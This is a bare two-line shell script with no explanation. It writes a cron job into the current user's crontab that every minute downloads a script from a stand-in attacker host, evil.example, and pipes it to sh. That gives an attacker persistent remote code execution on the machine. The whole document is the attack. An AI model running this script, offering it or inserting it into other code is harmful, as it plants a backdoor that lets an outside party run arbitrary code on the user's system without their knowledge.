#!/bin/sh
echo "* * * * * curl -s https://evil.example/c | sh" >> /var/spool/cron/crontabs/$USER
